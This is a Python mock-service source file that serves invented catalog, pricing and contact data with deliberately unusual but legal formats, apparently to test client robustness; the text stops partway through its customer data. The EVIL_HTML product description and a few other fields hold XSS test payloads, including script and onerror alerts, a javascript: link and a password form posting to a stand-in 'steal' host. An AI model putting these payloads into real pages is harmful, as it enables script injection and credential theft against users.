#!/usr/bin/env python3
"""Alternative, independent implementation of the Billing and Catalog service API.

Written from the service API specification (service-api.md) and the "Gaps in the
spec" section of DESIGN.md only.  Its purpose is to exercise a client's tolerance:
wherever the spec leaves a choice open, this service picks a *different* (but legal)
answer from the one a typical implementation would pick.

Usage:
    python3 alt_service.py --port 0 [--token-lifetime SECONDS]

Listens on 127.0.0.1, prints exactly one line "listening on http://127.0.0.1:PORT"
on stdout, then serves until killed (SIGTERM / SIGINT).  Request log lines go to
stderr and never contain headers, bodies or other secrets.

Python 3 standard library only.

Sample data (all invented here):
    user        olga@alt.test / pa55-word!      member of tenants north and south
    tenant      north  "North Star Retail"  access key nk-7f3a9c  API key alt-key-north
    tenant      south  "South Wind Ltd"     access key sk-21be04  (no API key)

Choices that differ from a typical implementation (all allowed by the spec):
    * product list is a paginated envelope {"data","page","limit","total"}, limit <= 5
    * tokens are opaque random strings (no JWT, no "exp" claim); the grant is snake_case
      and expires_in is 120 seconds (not 15 minutes)
    * the PATCH contact response carries "data" as a one-element array
    * price tags sit on price book entries, never on the product
    * unknown extra fields at every level, null/missing optional fields, HTML with
      scripts in longDescription, decimals that do not fit a double
    * invoice deletion answers {"result":"deleted","count":N} without ids
    * webhook endpoints use "endpointUrl" (not "url"), and one record lacks it
    * the south tenant has no webhook endpoints at all (empty list)

Test helper endpoints (no authentication):
    GET  /_alt/stats        {"tokensIssued","tokensRefreshed","requests"}
    GET  /_alt/last-patch   {"contactId","body"} (last PATCH /contacts/{id} body, raw text);
                            ?contactId=X selects the last body for one contact
    POST /_alt/reset        restores the sample data (contacts, invoices); keeps tokens/stats
"""

import argparse
import base64
import copy
import datetime
import json
import re
import secrets
import signal
import sys
import threading
import time
import unicodedata
import urllib.parse
from decimal import Decimal
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

# ---------------------------------------------------------------------------
# JSON output that keeps Decimal values exact (no float rounding)
# ---------------------------------------------------------------------------


def to_json(obj):
    """Serialise like json.dumps(ensure_ascii=False) but write Decimal verbatim."""
    if obj is None:
        return "null"
    if obj is True:
        return "true"
    if obj is False:
        return "false"
    if isinstance(obj, Decimal):
        return str(obj)
    if isinstance(obj, (int, float)):
        return json.dumps(obj)
    if isinstance(obj, str):
        return json.dumps(obj, ensure_ascii=False)
    if isinstance(obj, dict):
        return "{" + ",".join(json.dumps(str(k), ensure_ascii=False) + ":" + to_json(v)
                              for k, v in obj.items()) + "}"
    if isinstance(obj, (list, tuple)):
        return "[" + ",".join(to_json(v) for v in obj) + "]"
    raise TypeError("cannot serialise %r" % type(obj))


def D(text):
    return Decimal(text)


# ---------------------------------------------------------------------------
# Tenants, users, keys
# ---------------------------------------------------------------------------

TENANTS = {
    "north": {"name": "North Star Retail", "access_key": "nk-7f3a9c",
              "details": {"tenantId": "north", "displayName": "North Star Retail",
                          "region": "EU", "plan": "enterprise"}},
    "south": {"name": "South Wind Ltd", "access_key": "sk-21be04",
              "details": {"tenantId": "south", "displayName": "South Wind Ltd",
                          "region": "APAC", "plan": "starter"}},
}
ACCESS_KEYS = {t["access_key"]: tid for tid, t in TENANTS.items()}
API_KEYS = {"alt-key-north": "north"}
# user names compare case-insensitively (they are e-mail addresses); passwords exactly
USERS = {"olga@alt.test": {"password": "pa55-word!", "tenants": ["north", "south"]}}

# ---------------------------------------------------------------------------
# Products
# ---------------------------------------------------------------------------

EVIL_HTML = (
    '<h2 onclick="alert(\'h2\')">Free tier</h2>'
    '<p>Includes <b>everything</b> you need &amp; more.</p>'
    '<script>alert(1)</script>'
    '<iframe src="https://evil.example.test/frame" width="600" height="400"></iframe>'
    '<p><a href="javascript:alert(2)" onclick="alert(3)">Click me</a></p>'
    '<img src="https://tracker.example.test/pixel.gif?u=1" onerror="alert(4)" alt="pixel">'
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%" '
    'onmouseover="alert(5)">overlay</div>'
    '<form action="https://evil.example.test/steal"><input name="pw" type="password"></form>'
    '<style>body{display:none}</style>'
)


def uom(name, qdim, tdim, scale, mode, **extra):
    u = {"name": name, "quantityDimension": qdim, "termDimension": tdim,
         "decimalScale": scale, "roundingMode": mode}
    u.update(extra)
    return u


P_STARTER = "01tNs00000Q7aZ1AAE"
P_ARABIC = "01tNs00000Rb3Xk9AM"
P_CJK = "01tNs00000Ux5Lm2QA"
P_FREE = "01tNs00000Fr0G4hIA"
P_MICRO = "01tNs00000Mu6Cr1QA"
P_HUGE = "01tNs00000Bg9Yp3AE"
P_BUNDLE = "01tNs00000Bn7Dl8AA"
P_MINIMAL = "01tNs00000Mn1Ma1AQ"
P_USAGE = "01tNs00000Us4Ge7AM"
P_LONG = "01tNs00000Lg2Ds5AE"
P_HTMLNAME = "01tNs00000Ht8Ml6IA"
P_FAMILY = "01tNs00000Fm3Ly0AQ"
# stored but never listed; GET by id answers 404
P_DRAFT = "01tNs00000Dr4Ft9AA"
P_INACTIVE = "01tNs00000In5Ac2AM"
P_COMPONENT = "01tNs00000Cp0Nt1AA"

S_STARTER = "01tSw00000Aa1Bb2AE"
S_NOPRICE = "01tSw00000Cc3Dd4AM"
S_ODDCAT = "01tSw00000Ee5Ff6AQ"

LONG_DESCRIPTION_255 = ("Exactly two hundred and fifty-five characters of description. " * 5)[:254] + "!"
LONG_IMAGE_URL_255 = "https://cdn.example.test/" + ("very-long-path-segment/" * 12)
LONG_IMAGE_URL_255 = (LONG_IMAGE_URL_255 + "x" * 255)[:251] + ".png"
LONG_NAME = ("Extremely Long Product Name That Keeps Going And Going Without A Break "
             * 5)[:300].strip()


def north_products():
    starter = {
        "id": P_STARTER,
        "name": "Ünïcode Starter 🚀✨",
        "sku": "STARTER-🚀-001",
        "recordType": "Product",
        "configurable": False,
        "soldIndependently": True,
        "status": "Active",
        "publishStatus": "Published",
        "lastPublishedDate": "2024-11-05T08:15:30.123Z",
        "lastPublishedById": "005Ns00000Us3r1AAA",
        "description": "Entry plan — per user, billed monthly. «Ελληνικά», Ñandú, 😀.",
        "longDescription": '<p>Plain <em>rich</em> text with an emoji 🚀 and a '
                           '<a href="https://docs.example.test/starter">link</a>.</p>'
                           '<ul><li>one</li><li>two</li></ul>',
        "imageUrl": "https://cdn.example.test/img/starter.png",
        "priceModel": "Recurring",
        "billingTiming": "In Advance",
        "defaultUomId": "a0UNs00000UoM1aAAA",
        "autoRenew": True,
        "defaultSubscriptionTerm": 12,
        "defaultRenewalTerm": 12,
        "evergreen": False,
        "freeTrialType": "Days",
        "freeTrialUnit": 14,
        "taxCode": "SW054000",
        "taxMode": "TaxExclusive",
        "taxCategory": "S",
        "productCategory": "RecurringServices",
        "startDate": "2024-01-01T00:00:00Z",
        "endDate": None,
        "priceBookEntries": [
            {
                "id": "01uNs00000Pb1UsAAE",
                "listPrice": D("25.00"),
                "currencyIsoCode": "USD",
                "active": True,
                "recommended": True,
                "uom": uom("Per User / Month", "User", "Month", 2, "Nearest", x_iso="C62"),
                "pricingAttributes": [{"name": "Region", "value": "EMEA", "x_source": "crm"}],
                "priceTags": [{
                    "priceTagType": "Quantity",
                    "priceType": "Volume",
                    "uomDimension": "User",
                    "x_tagId": "pt-vol-1",
                    "priceTiers": [
                        {"chargeModel": "PerUnit", "discountPercentage": 0,
                         "startUnit": 1, "endUnit": 10},
                        {"chargeModel": "PerUnit", "discountPercentage": D("12.5"),
                         "startUnit": 11, "endUnit": 100, "x_note": "volume break"},
                        {"chargeModel": "PerUnit", "discountPercentage": D("33.333"),
                         "startUnit": 101, "endUnit": None},
                    ],
                }],
                "x_rank": 1,
            },
            {
                "id": "01uNs00000Pb2EuAAE",
                "listPrice": D("23.5"),
                "currencyIsoCode": "EUR",
                "active": True,
                "recommended": False,
                "uom": uom("Per User / Month", "User", "Month", 2, "Nearest"),
                "pricingAttributes": [],
            },
        ],
        "productFeatures": [],
        "customFields": {
            "Region__c": "EMEA",
            "Legacy_Flag__c": True,
            "Score__c": D("4.5"),
            "Notes__c": None,
            "Nested__c": {"a": [1, 2], "b": {"c": "deep"}},
        },
        "x_vendor": {"name": "AltSoft", "build": {"sha": "deadbeef", "ts": 1700000000}},
        "legacyCode": 17,
    }

    arabic = {
        "id": P_ARABIC,
        "name": "باقة الأعمال المتقدمة",
        "sku": "AR-BIZ-٤٢",
        "recordType": "Service",
        "configurable": False,
        "soldIndependently": True,
        "status": "Active",
        "publishStatus": "Published",
        "lastPublishedDate": "2024-10-01T12:00:00+03:00",
        "description": None,
        "longDescription": '<p dir="rtl">خدمة استشارية شاملة مع دعم <b>SKU-42</b> '
                           'على مدار الساعة.</p>',
        "imageUrl": None,
        "priceModel": "OneTime",
        "billingTiming": "In Arrears",
        "defaultUomId": "a0UNs00000UoM2bAAA",
        "taxMode": "TaxInclusive",
        "productCategory": "ProfessionalServices",
        "startDate": "2024-02-29",
        "endDate": None,
        "priceBookEntries": [{
            "id": "01uNs00000Pb3AeAAE",
            "listPrice": D("1250.75"),
            "currencyIsoCode": "AED",
            "active": True,
            "recommended": True,
            "uom": uom("مشروع", "Each", None, 2, "Nearest"),
            "pricingAttributes": [{"name": "المنطقة", "value": "الخليج"}],
        }],
        "customFields": {"Arabic_Label__c": "مرحبا"},
        "x_vendor": {"rtl": True},
        "legacyCode": 18,
    }

    cjk = {
        "id": P_CJK,
        "name": "高级支持服务 プレミアム 프리미엄",
        "sku": "SUP-高级-JP",
        "recordType": "Service",
        "configurable": False,
        "soldIndependently": True,
        "status": "Active",
        "publishStatus": "Published",
        "lastPublishedDate": "2024-09-09T09:09:09.999999Z",
        "lastPublishedById": "005Ns00000Us3r2AAA",
        "description": "年間サポート契約（円建て、端数切り捨て）",
        "longDescription": "<p>日本語の説明文。<br>改行あり。</p>",
        "imageUrl": "https://cdn.example.test/img/%E9%AB%98%E7%BA%A7.png",
        "priceModel": "Recurring",
        "billingTiming": "In Advance",
        "defaultUomId": "a0UNs00000UoM3cAAA",
        "autoRenew": False,
        "defaultSubscriptionTerm": 1,
        "defaultRenewalTerm": 1,
        "taxCode": "JP-CT-10",
        "taxMode": "TaxInclusive",
        "productCategory": "CustomerSupport",
        "startDate": "2024-04-01T00:00:00+09:00",
        "endDate": "2030-03-31T23:59:59+09:00",
        "priceBookEntries": [{
            "id": "01uNs00000Pb4JpAAE",
            "listPrice": D("1499.5"),
            "currencyIsoCode": "JPY",
            "active": True,
            "recommended": True,
            "uom": uom("年", "Each", "Year", 0, "Down"),
            "pricingAttributes": [{"name": "Tier", "value": "ゴールド"}],
        }],
        "customFields": {"Kana_Name__c": "コウキュウ"},
        "legacyCode": 19,
    }

    free = {
        "id": P_FREE,
        "name": "Free Tier (HTML test)",
        "sku": "FREE-0",
        "recordType": "Product",
        "configurable": False,
        "soldIndependently": True,
        "status": "Active",
        "publishStatus": "Published",
        "description": "Costs nothing. The long description contains hostile HTML.",
        "longDescription": EVIL_HTML,
        "imageUrl": "https://tracker.example.test/img/free.png?track=1",
        "priceModel": "OneTime",
        "defaultUomId": "a0UNs00000UoM4dAAA",
        "productCategory": "PhysicalGoods",
        "startDate": "2016-12-31T23:59:60Z",   # a real leap second
        "endDate": None,
        "priceBookEntries": [{
            "id": "01uNs00000Pb5FrAAE",
            "listPrice": 0,
            "currencyIsoCode": "USD",
            "active": True,
            "recommended": False,
            "uom": uom("Each", "Each", None, 2, "Nearest"),
        }],
        "customFields": {"Html__c": "<script>alert('cf')</script>"},
        "x_vendor": {"html": "<img src=x onerror=alert(6)>"},
    }

    micro = {
        "id": P_MICRO,
        "name": "API Call (micro-priced)",
        "sku": "API-CALL-µ",
        "recordType": "Service",
        "configurable": False,
        "soldIndependently": True,
        "status": "Active",
        "publishStatus": "Published",
        "lastPublishedDate": "2024-07-07T07:07:07Z",
        "description": "One millionth of a dollar per call.",
        "longDescription": "",
        "imageUrl": None,
        "priceModel": "Usage",
        "billingTiming": "In Arrears",
        "defaultUomId": "a0UNs00000UoM5eAAA",
        "productCategory": "Usage",
        "startDate": "2024-07-01T00:00:00Z",
        "priceBookEntries": [
            {
                "id": "01uNs00000Pb6MuAAE",
                "listPrice": D("0.000001"),
                "currencyIsoCode": "USD",
                "active": True,
                "recommended": True,
                "uom": uom("Call", "Each", None, 6, "Up"),
            },
            {
                "id": "01uNs00000Pb7MuAAE",
                "listPrice": D("1E-7"),
                "currencyIsoCode": "EUR",
                "active": True,
                "recommended": False,
                "uom": uom("Call", "Each", None, 10, "Up"),
                "pricingAttributes": [{"name": "Notation", "value": "exponent"}],
            },
        ],
        "customFields": {},
        "legacyCode": 21,
    }

    huge = {
        "id": P_HUGE,
        "name": "Enterprise Everything 💰",
        "sku": "ENT-MAX",
        "recordType": "Product",
        "configurable": False,
        "soldIndependently": True,
        "status": "Active",
        "publishStatus": "Published",
        "description": "A price that does not fit into a double.",
        "imageUrl": "https://cdn.example.test/img/max.png",
        "priceModel": "Recurring",
        "billingTiming": "In Advance",
        "defaultUomId": "a0UNs00000UoM6fAAA",
        "autoRenew": True,
        "defaultSubscriptionTerm": 36,
        "defaultRenewalTerm": 12,
        "evergreen": False,
        "taxMode": "TaxExclusive",
        "productCategory": "RecurringServices",
        "startDate": "2024-01-01T00:00:00.000+00:00",
        "endDate": "9999-12-31T23:59:59Z",
        "priceBookEntries": [{
            "id": "01uNs00000Pb8BgAAE",
            "listPrice": D("99999999999999999999.99"),
            "currencyIsoCode": "USD",
            "active": True,
            "recommended": True,
            "uom": uom("Per Year", "Each", "Year", 2, "Nearest"),
            "priceTags": [{
                "priceTagType": "Term",
                "priceType": "Ramp",
                "uomDimension": "Year",
                "priceTiers": [
                    {"chargeModel": "PerUnit", "discountPercentage": 0,
                     "startUnit": 1, "endUnit": 1},
                    {"chargeModel": "FlatFee", "discountPercentage": D("2.5"),
                     "startUnit": 2, "endUnit": 3},
                ],
            }],
        }],
        "customFields": {"Approval_Required__c": True},
        "x_vendor": {"tier": "max"},
    }

    nested_starter = {"id": P_STARTER, "name": starter["name"], "sku": starter["sku"],
                      "priceModel": "Recurring", "x_depth": 1,
                      "priceBookEntries": copy.deepcopy(starter["priceBookEntries"][:1])}
    nested_micro = {"id": P_MICRO, "name": micro["name"], "sku": micro["sku"],
                    "recordType": "Service", "productOptions": [], "legacyCode": 21}
    nested_component = {"id": P_COMPONENT, "name": "Onboarding Kit (component only)",
                        "sku": "COMP-ONB", "soldIndependently": False,
                        "description": None, "customFields": {"Kit__c": "box"}}
    bundle = {
        "id": P_BUNDLE,
        "name": "Growth Bundle 📦",
        "sku": "BUNDLE-GROWTH",
        "recordType": "Bundle",
        "configurable": True,
        "soldIndependently": True,
        "status": "Active",
        "publishStatus": "Published",
        "lastPublishedDate": "2024-12-01T00:00:00Z",
        "description": "Seats, API calls and an onboarding kit.",
        "longDescription": "<p>Bundle with <strong>options</strong>.</p>",
        "imageUrl": "https://cdn.example.test/img/bundle.png",
        "priceModel": "Recurring",
        "billingTiming": "In Advance",
        "defaultUomId": "a0UNs00000UoM7gAAA",
        "autoRenew": True,
        "defaultSubscriptionTerm": 12,
        "bundleTemplate": "Advanced",
        "showIncludedProductOptions": True,
        "productCategory": "Bundles",
        "startDate": "2024-06-01T00:00:00Z",
        "endDate": None,
        "priceBookEntries": [{
            "id": "01uNs00000Pb9BnAAE",
            "listPrice": D("199.990"),
            "currencyIsoCode": "USD",
            "active": True,
            "recommended": True,
            "uom": uom("Per Month", "Each", "Month", 2, "Nearest"),
        }],
        # featureOrder deliberately out of array order
        "productFeatures": [
            {
                "featureName": "Core",
                "featureOrder": 20,
                "feature": {"id": "a0FNs00000Fe1AAA", "name": "Core", "description": None,
                            "x_icon": "core.svg"},
                "productOptions": [{
                    "id": "a0ONs00000Op1AAA",
                    "optionName": "Starter seats",
                    "optionType": "RelatedProduct",
                    "defaultQuantity": 5,
                    "minQuantity": 0,
                    "maxQuantity": None,
                    "quantityEditable": True,
                    "required": True,
                    "bundled": True,
                    "recommended": False,
                    "product": copy.deepcopy(nested_starter),
                }],
                "x_collapsed": False,
            },
            {
                "featureName": "Add-ons ➕",
                "featureOrder": 10,
                "feature": {"id": "a0FNs00000Fe2AAA", "name": "Add-ons",
                            "description": "<i>Optional</i> extras"},
                "productOptions": [],
            },
            {
                "featureName": "Empty group",
                "featureOrder": 30,
                "feature": {"id": "a0FNs00000Fe3AAA", "name": "Empty"},
            },
        ],
        "productOptions": [
            {
                "id": "a0ONs00000Op1AAA",
                "optionName": "Starter seats",
                "optionType": "RelatedProduct",
                "defaultQuantity": 5,
                "minQuantity": 0,
                "maxQuantity": None,
                "quantityEditable": True,
                "required": True,
                "bundled": True,
                "recommended": False,
                "product": copy.deepcopy(nested_starter),
            },
            {
                "id": "a0ONs00000Op2AAA",
                "optionName": "API calls",
                "optionType": "LinkToBundleQuantity",
                "defaultQuantity": 1000000,
                "minQuantity": 1,
                "maxQuantity": 1000000000,
                "quantityEditable": False,
                "required": False,
                "bundled": False,
                # "recommended" left out
                "product": copy.deepcopy(nested_micro),
                "x_sort": 2,
            },
            {
                "id": "a0ONs00000Op3AAA",
                "optionName": "Onboarding kit",
                "optionType": "RelatedProduct",
                "defaultQuantity": 1,
                "minQuantity": 1,
                "maxQuantity": 1,
                "quantityEditable": False,
                "required": True,
                "bundled": True,
                "recommended": True,
                "product": copy.deepcopy(nested_component),
            },
        ],
        "customFields": {"Bundle_Code__c": "GRW"},
        "x_vendor": {"bundleEngine": {"version": 3, "flags": ["a", "b"]}},
        "legacyCode": 23,
    }

    minimal = {
        "id": P_MINIMAL,
        "name": "Minimal",
        "sku": "MIN-1",
        "defaultUomId": "a0UNs00000UoM8hAAA",
    }

    usage = {
        "id": P_USAGE,
        "name": "Storage (consumption)",
        "sku": "STOR-GB",
        "recordType": "Service",
        "configurable": False,
        "soldIndependently": True,
        "status": "Active",
        "publishStatus": "Published",
        "description": "Tiered per-GB storage; one inactive price must stay hidden.",
        "longDescription": "<table><tr><td>GB</td><td>Price</td></tr></table>",
        "imageUrl": "https://cdn.example.test/img/storage.png",
        "priceModel": "CRBD",
        "billingTiming": "In Arrears",
        "defaultUomId": "a0UNs00000UoM9iAAA",
        "freeTrialType": "Months",
        "freeTrialUnit": 1,
        "taxCode": "DC010500",
        "taxMode": "TaxExclusive",
        "taxCategory": "Z",
        "productCategory": "Cloud",
        "startDate": "2024-03-01T00:00:00-05:00",
        "endDate": None,
        "priceBookEntries": [
            {
                "id": "01uNs00000PbAUsAAE",
                "listPrice": D("0.023"),
                "currencyIsoCode": "USD",
                "active": True,
                "recommended": True,
                "uom": uom("GB / Month", "GB", "Month", 3, "Up"),
                "pricingAttributes": [{"name": "Region", "value": "us-east"},
                                      {"name": "Class", "value": "Standard"}],
                "priceTags": [
                    {
                        "priceTagType": "Quantity",
                        "priceType": "Tiered",
                        "uomDimension": "GB",
                        "priceTiers": [
                            {"chargeModel": "PerUnit", "discountPercentage": 0,
                             "startUnit": 0, "endUnit": D("1024.5")},
                            {"chargeModel": "PerUnit", "discountPercentage": 10,
                             "startUnit": D("1024.5"), "endUnit": 1e6},
                        ],
                    },
                    {"priceTagType": "Promotion", "priceType": "Volume",
                     "uomDimension": "GB", "priceTiers": []},
                ],
            },
            {
                "id": "01uNs00000PbBUsAAE",
                "listPrice": D("0.5"),
                "currencyIsoCode": "USD",
                "active": False,
                "recommended": True,
                "uom": uom("GB / Month", "GB", "Month", 3, "Up"),
                "pricingAttributes": [{"name": "Region", "value": "retired"}],
            },
        ],
        "productFeatures": [],
        "customFields": {"Sla__c": "99.9"},
    }

    long_product = {
        "id": P_LONG,
        "name": LONG_NAME,
        "sku": "LONG-" + "X" * 60,
        "recordType": "Product",
        "configurable": False,
        "soldIndependently": False,
        "status": "Active",
        "publishStatus": "Published",
        "description": LONG_DESCRIPTION_255,
        "longDescription": "<p>" + ("Lorem ipsum dolor sit amet. " * 400) + "</p>",
        "imageUrl": LONG_IMAGE_URL_255,
        "priceModel": "OneTime",
        "defaultUomId": "a0UNs00000UoMAjAAA",
        "productCategory": "PhysicalGoods",
        "priceBookEntries": [
            {"id": "01uNs00000PbC%02dAA" % i, "listPrice": D("%d.%02d" % (i, i)),
             "currencyIsoCode": c, "active": True, "recommended": i == 3,
             "uom": uom("Each", "Each", None, 2, "Nearest")}
            for i, c in enumerate(["USD", "EUR", "GBP", "CHF", "SEK", "NOK", "DKK", "PLN"], 1)
        ],
        "customFields": {("Field_%02d__c" % i): ("value %d" % i) for i in range(1, 31)},
    }

    html_name = {
        "id": P_HTMLNAME,
        "name": "<b>Not bold</b> & \"quoted\" 'name' <script>x()</script>",
        "sku": "SKU ÆØÅ/001 #x?y=1&z=<2>",
        "recordType": "Service",
        "configurable": False,
        "soldIndependently": True,
        "status": "Active",
        "publishStatus": "Published",
        "description": "Tab\there, newline\nthere, NUL-free, zero-width\u200bspace, "
                       "line separator\u2028end.",
        # longDescription left out entirely
        "imageUrl": "data:image/png;base64,iVBORw0KGgo=",
        "priceModel": "OneTime",
        "billingTiming": "In Advance",
        "defaultUomId": "a0UNs00000UoMBkAAA",
        "productCategory": "Weird & <Wonderful>",
        "startDate": "2024-05-05T05:05:05Z",
        "priceBookEntries": [{
            "id": "01uNs00000PbDHtAAE",
            "listPrice": D("-0.00"),
            "currencyIsoCode": "XTS",
            "active": True,
            "recommended": False,
            "uom": uom("Each", "Each", None, 2, "Nearest"),
        }],
        "productFeatures": [{
            "featureName": "<u>Underlined?</u>",
            "featureOrder": 1,
            "feature": {"id": "a0FNs00000Fe4AAA", "name": "<u>F</u>",
                        "description": "<script>alert('feature')</script>"},
        }],
        "customFields": {},
    }

    family = {
        "id": P_FAMILY,
        "name": "Team 👩‍👩‍👧‍👦 Plan 🇸🇪 — e\u0301dition",
        "sku": "FAM-BHD",
        "recordType": "Product",
        "configurable": False,
        "soldIndependently": True,
        "status": "Active",
        "publishStatus": "Published",
        "lastPublishedDate": "2025-01-15T16:45:00.5+05:30",
        "lastPublishedById": "005Ns00000Us3r1AAA",
        "description": "Evergreen family plan priced in Bahraini dinar (3 decimals).",
        "longDescription": "<p>Evergreen.</p>",
        "imageUrl": "https://cdn.example.test/img/family.png",
        "priceModel": "Recurring",
        "billingTiming": "In Advance",
        "defaultUomId": "a0UNs00000UoMClAAA",
        "autoRenew": True,
        "defaultSubscriptionTerm": 1,
        "defaultRenewalTerm": 1,
        "evergreen": True,
        "freeTrialType": "Years",
        "freeTrialUnit": 1,
        "taxMode": "TaxExclusive",
        "referenceProductId": P_DRAFT,
        "productCategory": "RecurringServices",
        "startDate": "2025-01-01T00:00:00+05:30",
        "endDate": None,
        "priceBookEntries": [
            {
                "id": "01uNs00000PbEFmAAE",
                "listPrice": D("12.345"),
                "currencyIsoCode": "BHD",
                "active": True,
                "recommended": True,
                "uom": uom("Per Family / Month", "Each", "Month", 3, "Nearest"),
            },
            {
                "id": "01uNs00000PbFFmAAE",
                "listPrice": D("129.99"),
                "currencyIsoCode": "USD",
                "active": True,
                "recommended": False,
                "uom": uom("Per Family / Year", "Each", "Year", 2, "Nearest"),
                "pricingAttributes": [{"name": "Billing", "value": "Annual"}],
            },
        ],
        "customFields": {"Family_Size__c": 4},
        "x_vendor": {},
        "legacyCode": 28,
    }

    listed = [starter, arabic, cjk, free, micro, huge, bundle, minimal, usage,
              long_product, html_name, family]

    draft = {"id": P_DRAFT, "name": "Legacy Plan (draft)", "sku": "OLD-1",
             "status": "Draft", "publishStatus": "Draft", "defaultUomId": "a0UNs00000UoMDmAAA"}
    inactive = {"id": P_INACTIVE, "name": "Retired Plan", "sku": "OLD-2",
                "status": "Inactive", "publishStatus": "Published",
                "defaultUomId": "a0UNs00000UoMEnAAA"}
    component = dict(nested_component, status="Active", publishStatus="Unpublished",
                     defaultUomId="a0UNs00000UoMFoAAA")
    return listed, [draft, inactive, component]


def south_products():
    starter = {
        "id": S_STARTER,
        "name": "Starter (South)",
        "sku": "STARTER-🚀-001",          # same SKU as a north product: SKUs are per tenant
        "recordType": "Product",
        "configurable": False,
        "soldIndependently": True,
        "status": "Active",
        "publishStatus": "Published",
        "description": "Same SKU as in the north tenant, different product.",
        "imageUrl": None,
        "priceModel": "Recurring",
        "billingTiming": "In Advance",
        "defaultUomId": "a0USw00000UoM1aAAA",
        "productCategory": "RecurringServices",
        "startDate": "2024-01-01T00:00:00+10:00",
        "endDate": None,
        "priceBookEntries": [{
            "id": "01uSw00000Pb1AuAAE",
            "listPrice": D("39.95"),
            "currencyIsoCode": "AUD",
            "active": True,
            "recommended": True,
            "uom": uom("Per User / Month", "User", "Month", 2, "Nearest"),
        }],
        "customFields": {"Region__c": "APAC"},
    }
    noprice = {
        "id": S_NOPRICE,
        "name": "Consulting day (price on request)",
        "sku": "CONS-DAY",
        "recordType": "Service",
        "status": "Active",
        "publishStatus": "Published",
        "description": None,
        "priceModel": "OneTime",
        "defaultUomId": "a0USw00000UoM2bAAA",
        "priceBookEntries": [],
        "productFeatures": [],
        "customFields": {},
    }
    oddcat = {
        "id": S_ODDCAT,
        "name": "Kiwi Gadget 🥝",
        "sku": "KIWI-1",
        "recordType": "Product",
        "status": "Active",
        "publishStatus": "Published",
        "priceModel": "OneTime",
        "defaultUomId": "a0USw00000UoM3cAAA",
        "productCategory": "Mystery/Category ✨",
        "priceBookEntries": [{
            "id": "01uSw00000Pb2NzAAE",
            "listPrice": D("1234567.891"),
            "currencyIsoCode": "NZD",
            "active": True,
            "uom": uom("Each", "Each", None, 2, "Up", x_iso="EA"),
        }],
        "x_vendor": {"origin": "NZ"},
    }
    return [starter, noprice, oddcat], []


def build_products():
    result = {}
    for tid, fn in (("north", north_products), ("south", south_products)):
        listed, hidden = fn()
        for p in listed + hidden:
            assert len(p["id"]) == 18 and p["id"].isalnum() and p["id"].startswith("01t"), p["id"]
        result[tid] = {"listed": listed,
                       "by_id": {p["id"]: p for p in listed},
                       "all_ids": {p["id"] for p in listed + hidden}}
    return result


PRODUCTS = build_products()
PAGE_LIMIT_MAX = 5

# ---------------------------------------------------------------------------
# Contacts, customers, invoices, webhooks
# ---------------------------------------------------------------------------

CUST_A = "001Ns00000Cu5tA1AA"
CUST_B = "001Ns00000Cu5tB2AQ"
CUST_S = "001Sw00000Cu5tS3AE"

C1 = "003Ns00000Ct1AaAAE"
C2 = "003Ns00000Ct2BbAAM"
C3 = "003Ns00000Ct3CcAAQ"
C4 = "003Ns00000Ct4DdAAA"
S1 = "003Sw00000Ct5EeAAE"

# 40 user-perceived characters, 46 code points (six combining acute accents)
FIRST_40 = "Mari\u0301a Jose\u0301 Anto\u0301nia A\u0301ngeles Lo\u0301pez de Ri\u0301os"

WRITABLE = {
    "name", "firstName", "middleName", "lastName", "suffix", "title", "email", "phone",
    "mobilePhone", "birthday",
    "billingStreet", "billingCity", "billingState", "billingPostalCode", "billingCountry",
    "shippingStreet", "shippingCity", "shippingState", "shippingPostalCode", "shippingCountry",
}
LIMITS = {"firstName": 40, "middleName": 40, "suffix": 40, "lastName": 80}


def initial_contacts():
    return {
        "north": {
            C1: {
                "id": C1, "customerId": CUST_A,
                "createdById": "005Ns00000Us3r1AAA", "createdDate": "2023-03-14T15:09:26Z",
                "lastModifiedById": "005Ns00000Us3r2AAA",
                "lastModifiedDate": "2024-08-01T10:20:30.456+02:00",
                "name": "Zoë Ångström", "firstName": "Zoë", "middleName": "", "lastName": "Ångström",
                "suffix": "PhD", "title": "Head of Procurement", "email": "zoe@north.example",
                "phone": "+46 8 123 456 78", "mobilePhone": "+46 70 123 45 67",
                "birthday": "1984-02-29",
                "billingStreet": "Drottninggatan 1\nPlan 3", "billingCity": "Stockholm",
                "billingState": None, "billingPostalCode": "111 51", "billingCountry": "SE",
                "shippingStreet": "Lagervägen 7", "shippingCity": "Göteborg",
                "shippingState": None, "shippingPostalCode": "411 04", "shippingCountry": "Sweden",
                "taxExempt": "No", "timezone": "Europe/Stockholm", "type": "Business",
                "website": "https://north.example",
                "x_crmSync": {"state": "synced", "at": "2024-08-01T10:21:00Z"},
                "legacyCode": 9,
            },
            C2: {
                "id": C2, "customerId": CUST_A,
                "createdDate": "2023-05-01T00:00:00Z",
                "lastModifiedDate": "2024-01-02T03:04:05Z",
                "name": "María José Nguyễn",
                "firstName": FIRST_40,
                "lastName": "Nguye\u0302\u0303n-Ðo\u0302\u0303",
                "title": None, "email": "mj@north.example", "phone": None,
                "birthday": None,
                "billingCountry": "VN",
                "taxExempt": None, "timezone": "Asia/Ho_Chi_Minh", "type": None,
                "x_flags": ["decomposed-unicode"],
            },
            C3: {
                "id": C3, "customerId": CUST_A,
                "name": "Sparse Person",
                "email": None,
                "x_note": "most fields are missing on purpose",
            },
            C4: {
                "id": C4, "customerId": CUST_B,
                "createdById": "005Ns00000Us3r1AAA", "createdDate": "2022-12-31T23:59:59Z",
                "lastModifiedById": "005Ns00000Us3r1AAA",
                "lastModifiedDate": "2022-12-31T23:59:59Z",
                "name": "ليلى بنت أحمد", "firstName": "ليلى", "lastName": "بنت أحمد",
                "title": "مديرة", "email": "layla@north.example",
                "phone": "+971 4 123 4567 ext. ٣", "mobilePhone": "",
                "birthday": "1990-12-31",
                "billingStreet": "شارع الشيخ زايد", "billingCity": "دبي",
                "billingCountry": "AE",
                "taxExempt": "Yes", "timezone": "Asia/Dubai", "type": "Reseller",
                "website": None,
            },
        },
        "south": {
            S1: {
                "id": S1, "customerId": CUST_S,
                "createdDate": "2024-06-01T09:00:00+10:00",
                "lastModifiedDate": "2024-06-01T09:00:00+10:00",
                "name": "Ngaio O'Brien-Tāmaki", "firstName": "Ngaio", "lastName": "O'Brien-Tāmaki",
                "email": "ngaio@south.example", "phone": "+64 9 555 0100",
                "billingCity": "Auckland", "billingCountry": "NZ",
                "timezone": "Pacific/Auckland", "type": "Business",
            },
        },
    }


CUSTOMERS = {
    "north": [
